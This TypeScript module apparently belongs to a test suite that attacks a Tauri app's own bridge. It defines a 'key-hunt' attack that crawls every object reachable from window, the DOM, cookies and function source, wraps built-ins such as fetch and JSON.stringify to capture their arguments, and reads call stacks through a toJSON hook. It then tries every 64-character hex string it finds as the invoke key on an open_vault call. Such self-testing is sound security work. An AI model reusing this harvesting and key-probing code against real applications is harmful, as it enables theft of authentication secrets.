/**
 * A page that wants the invoke key: it walks everything it can reach, wraps what the bridge could call, and takes every
 * text that could be a key for one: what it finds is tried on the call scheme, which alone can say.
 */
import { vault_openings } from "../../bindings";
import { grouped } from "../../lib/words";
import { breathe, past } from "./answers";
import type { Attack, Try } from "./attack";

const KEYS = /[0-9a-f]{64}/g;
const STEP_VALUES = 4000;

/** Texts that could be a key, from all that was looked at. */
class Loot {
  readonly found = new Set<string>();
  texts = 0;

  read(text: string): void {
    this.texts += 1;
    for (const [key] of text.matchAll(KEYS)) this.found.add(key);
  }
}

const sourceOf = (code: Function) => Function.prototype.toString.call(code);

/** Walks from a value over members, prototypes, collections and the source of functions. Gives how many values it saw. */
async function walk(root: unknown, loot: Loot): Promise<number> {
  const seen = new Set<object>();
  const queue: unknown[] = [root];
  for (let value = queue.pop(); queue.length > 0 || value !== undefined; value = queue.pop()) {
    if (typeof value === "string") loot.read(value);
    if ((typeof value !== "object" && typeof value !== "function") || value === null || seen.has(value)) continue;
    seen.add(value);
    if (seen.size % STEP_VALUES === 0) await breathe();
    try {
      if (typeof value === "function") loot.read(sourceOf(value));
      if (value instanceof Map) for (const [name, member] of value) queue.push(name, member);
      if (value instanceof Set) queue.push(...value);
      queue.push(Object.getPrototypeOf(value));
      if (ArrayBuffer.isView(value)) continue;
      for (const name of Reflect.ownKeys(value)) {
        const member = Reflect.getOwnPropertyDescriptor(value, name);
        if (typeof name === "string") loot.read(name);
        queue.push(member?.value, member?.get, member?.set);
      }
    } catch {
      // What refuses to be looked at gives nothing away.
    }
  }
  return seen.size;
}

/** What the bridge could call while it sends a message, by owner. */
const CALLED: [string, object, string[]][] = [
  ["window", window, ["fetch", "encodeURIComponent", "btoa", "queueMicrotask", "structuredClone"]],
  ["JSON", JSON, ["stringify", "parse"]],
  ["Reflect", Reflect, ["apply", "get", "set", "ownKeys"]],
  ["Object", Object, ["assign", "entries", "freeze", "keys"]],
  ["Function.prototype", Function.prototype, ["apply", "bind"]],
  ["Headers.prototype", Headers.prototype, ["append", "forEach", "get", "set"]],
  ["Promise.prototype", Promise.prototype, ["then", "catch"]],
  ["Array.prototype", Array.prototype, ["concat", "join", "map", "push", "slice"]],
  ["String.prototype", String.prototype, ["charCodeAt", "concat", "replace", "slice", "startsWith"]],
  ["Map.prototype", Map.prototype, ["get", "has", "set"]],
  ["TextEncoder.prototype", TextEncoder.prototype, ["encode"]],
  ["Response.prototype", Response.prototype, ["json", "text"]],
];

/** Puts a listener in front of each of these while `work` runs. Gives how many it could wrap, and how many calls it heard. */
async function listening(loot: Loot, work: () => Promise<unknown>): Promise<{ wrapped: number; heard: number }> {
  const { apply } = Reflect;
  let heard = 0;
  let isLooking = false;
  const look = (values: unknown[]) => {
    if (isLooking) return;
    isLooking = true;
    heard += 1;
    for (const value of values) {
      if (typeof value === "string") loot.read(value);
      else if (typeof value === "object" && value !== null) {
        for (const name of Object.getOwnPropertyNames(value).slice(0, 50)) {
          const member: unknown = Object.getOwnPropertyDescriptor(value, name)?.value;
          if (typeof member === "string") loot.read(member);
          else if (typeof member === "object" && member !== null) loot.read(safeText(member));
        }
      }
    }
    isLooking = false;
  };
  const repairs: (() => void)[] = [];
  for (const [, owner, names] of CALLED) {
    for (const name of names) {
      const property = Object.getOwnPropertyDescriptor(owner, name);
      if (!property?.configurable || typeof property.value !== "function") continue;
      const original = property.value as (...values: unknown[]) => unknown;
      const value = function (this: unknown, ...values: unknown[]) {
        look([this, ...values]);
        return apply(original, this, values);
      };
      Object.defineProperty(owner, name, { ...property, value });
      repairs.push(() => Object.defineProperty(owner, name, property));
    }
  }
  try {
    await work();
  } finally {
    for (const repair of repairs) repair();
  }
  return { wrapped: repairs.length, heard };
}

function safeText(value: object): string {
  try {
    return Object.values(value)
      .filter((member) => typeof member === "string")
      .join(" ");
  } catch {
    return "";
  }
}

/** Arguments that run the page's own code while the bridge writes them down, and see who called. */
function spying(loot: Loot): object {
  return {
    toJSON() {
      loot.read(String(new Error("seen from inside").stack));
      return {};
    },
  };
}

const DOCUMENT = () => [
  document.documentElement.outerHTML,
  ...Array.from(document.scripts, (script) => script.text),
  ...performance.getEntries().map((entry) => JSON.stringify(entry)),
  document.cookie,
  location.href,
];

function looked(sent: string, found: Set<string>, before: number, words: string): Try {
  const none = found.size === before;
  return { sent, hop: "page", code: none ? "nothing" : `${found.size - before} texts`, words };
}

async function huntEverywhere(loot: Loot): Promise<Try[]> {
  const tries: Try[] = [];
  let before = loot.found.size;
  const next = (sent: string, words: string) => {
    tries.push(looked(sent, loot.found, before, words));
    before = loot.found.size;
  };
  const values = await walk(window, loot);
  next("a walk from window", `${grouped(values)} values, ${grouped(loot.texts)} texts, the source of every function.`);

  for (const text of DOCUMENT()) loot.read(text);
  next("the document, its scripts, the engine's list of requests", "Addresses and texts; headers are not among them.");

  const { wrapped, heard } = await listening(loot, () => vault_openings({ headers: { "X-Spy": "1" } }));
  next(`${wrapped} built-ins wrapped during a call`, `${grouped(heard)} calls went through them, none with the key.`);

  await window.__TAURI_INTERNALS__.invoke("vault_openings", spying(loot) as Record<string, unknown>);
  next("a toJSON that reads the stack from inside a call", "Names of functions and addresses of scripts.");
  return tries;
}

export const keyHunt: Attack = {
  id: "key-hunt",
  title: "Reading the key",
  about: "Walks all that a page can reach, wraps the built-ins, and tries every text that could be a key.",
  why: "The key lives in a closure whose source does not hold it, and passes through no object or function of the page's.",
  async run() {
    const loot = new Loot();
    const tries = await huntEverywhere(loot);
    const found = [...loot.found];
    for (const key of found) {
      const answer = await past("POST open_vault with a text that was found", "open_vault", {
        headers: { "Tauri-Invoke-Key": key },
      });
      tries.push(answer.hop === "key" ? answer : { ...answer, hop: undefined, loot: "One of the texts was the key." });
    }
    return tries;
  },
};
